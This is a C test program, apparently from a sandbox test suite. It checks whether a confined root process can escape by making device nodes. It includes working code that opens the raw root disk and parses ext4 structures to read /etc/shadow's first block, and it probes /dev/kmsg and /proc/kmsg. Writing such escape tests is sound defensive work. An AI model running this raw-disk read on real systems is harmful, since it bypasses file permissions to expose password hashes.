/*
 * mknod-dev: a device node made where the program may write is a second name for a device
 * the policy refuses (THREATS E; a root program has CAP_MKNOD).
 *
 * usage: mknod-dev [SUB-ATTACK...]                  (--profile default)
 *
 *   blockdev-workdir   mknod a block device node of the disk that holds / (st_dev of /) in
 *                      the working directory, open it read-only, find /etc/shadow's inode in
 *                      the raw ext4 file system (its number comes from a listing of /etc,
 *                      which is allowed) and read its first data block: the bytes must never
 *                      be a shadow line.  Opening the raw disk at all is an escape.
 *   blockdev-devshm    the same node in /dev/shm (writable under the default profile)
 *   kmsg-workdir       a character node 1:11 (/dev/kmsg, the kernel log, which the default
 *                      profile does not let the program read): opening it is an escape
 *   kmsg-proc          the same log through its /proc twin, /proc/kmsg (root may open it; the
 *                      default profile reads all of /proc): opening it is an escape too.  It
 *                      is never read: a read of /proc/kmsg takes the messages away from the
 *                      machine's own log reader.
 * Nothing is ever written to a device.  The nodes are removed at once (the driver removes
 * any device node left in the working directory and reports it).
 */
#include <stdint.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

#include "atk.h"

static uint32_t le32(const unsigned char *p) { return p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24; }
static uint16_t le16(const unsigned char *p) { return (uint16_t)(p[0] | p[1] << 8); }

static bool rd(int fd, uint64_t off, void *buf, size_t len)
{
	return pread(fd, buf, len, (off_t)off) == (ssize_t)len;
}

/* Read /etc/shadow's first block from the raw ext4 device; true if it leaked. */
static bool read_shadow_raw(const char *name, int fd)
{
	unsigned char sb[1024], gd[64], ino[256], blk[4096];
	uint64_t bs, table, leaf, data = 0;
	uint32_t ipg, isz, dsz, group, idx, flags;
	ino_t shadow = atk_etc_ino("shadow");

	if (!shadow || !rd(fd, 1024, sb, sizeof sb) || le16(sb + 56) != 0xEF53) {
		tt_note("%s: not an ext4 file system we can walk: opening it is the escape", name);
		return false;
	}
	bs = 1024ULL << le32(sb + 24);
	ipg = le32(sb + 40);
	isz = le16(sb + 88);
	dsz = (le32(sb + 96) & 0x80) ? le16(sb + 254) : 32;
	if (bs > sizeof blk || isz > sizeof ino || dsz > sizeof gd || !ipg)
		return false;
	group = (uint32_t)((shadow - 1) / ipg);
	idx = (uint32_t)((shadow - 1) % ipg);
	if (!rd(fd, (bs == 1024 ? 2 : 1) * bs + (uint64_t)group * dsz, gd, dsz))
		return false;
	table = le32(gd + 8) | (dsz >= 64 ? (uint64_t)le32(gd + 0x28) << 32 : 0);
	if (!rd(fd, table * bs + (uint64_t)idx * isz, ino, isz))
		return false;
	flags = le32(ino + 0x20);
	if (flags & 0x10000000) /* inline data */
		return atk_scan(name, (const char *)ino + 0x28, 60);
	if (flags & 0x80000) { /* extents */
		const unsigned char *h = ino + 0x28;
		for (int level = 0; level < 5; level++) {
			if (le16(h) != 0xF30A || le16(h + 2) == 0)
				return false;
			if (le16(h + 6) == 0) {
				data = le32(h + 12 + 8) | (uint64_t)le16(h + 12 + 6) << 32;
				break;
			}
			leaf = le32(h + 12 + 4) | (uint64_t)le16(h + 12 + 8) << 32;
			if (!rd(fd, leaf * bs, blk, bs))
				return false;
			h = blk;
		}
	} else {
		data = le32(ino + 0x28);
	}
	if (!data || !rd(fd, data * bs, blk, bs))
		return false;
	return atk_scan(name, (const char *)blk, (ssize_t)bs);
}

static void node(const char *name, const char *path, mode_t type, dev_t dev, bool disk)
{
	int fd;

	if (!atk_want(name))
		return;
	unlink(path);
	errno = 0;
	if (mknod(path, type | 0600, dev) < 0) {
		atk_held(name, "mknod: %s", strerrorname_np(errno));
		return;
	}
	fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0) {
		atk_held(name, "made the node %u:%u, but opening it: %s", major(dev), minor(dev),
			 strerrorname_np(errno));
		unlink(path);
		return;
	}
	if (!disk || !read_shadow_raw(name, fd))
		atk_escaped(name, "opened device %u:%u through a node made at %s", major(dev),
			    minor(dev), path);
	close(fd);
	unlink(path);
}

int main(int argc, char **argv)
{
	struct stat st;
	char shm[64];

	tt_init(argc, argv);
	atk_select(argc, argv, 1);
	atk_controls();
	tt_watchdog(20, "mknod-dev");
	if (stat("/", &st) < 0)
		tt_fail("control failed: stat /: %s", strerror(errno));
	if (major(st.st_dev) == 0)
		tt_skip("/ is not on a block device (%u:%u)", major(st.st_dev), minor(st.st_dev));
	node("blockdev-workdir", "rootdev", S_IFBLK, st.st_dev, true);
	snprintf(shm, sizeof shm, "/dev/shm/sysward-attack-%d", (int)getpid());
	node("blockdev-devshm", shm, S_IFBLK, st.st_dev, true);
	node("kmsg-workdir", "kmsg", S_IFCHR, makedev(1, 11), false);
	if (atk_want("kmsg-proc")) {
		int fd = open("/proc/kmsg", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd >= 0) {
			atk_escaped("kmsg-proc", "opened /proc/kmsg (the kernel log; not read)");
			close(fd);
		} else {
			atk_refused("kmsg-proc", -1, errno, EACCES);
		}
	}
	atk_finish();
}
